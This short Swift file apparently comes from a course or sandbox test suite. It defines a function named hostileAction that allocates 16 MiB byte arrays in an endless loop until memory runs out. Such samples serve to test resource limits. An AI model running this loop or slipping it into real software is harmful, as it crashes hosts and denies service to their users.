import CourseKit

func hostileAction(_ x: Vector) {
    var hoard: [[UInt8]] = []
    while true {
        hoard.append([UInt8](repeating: 7, count: 16 << 20))
    }
}
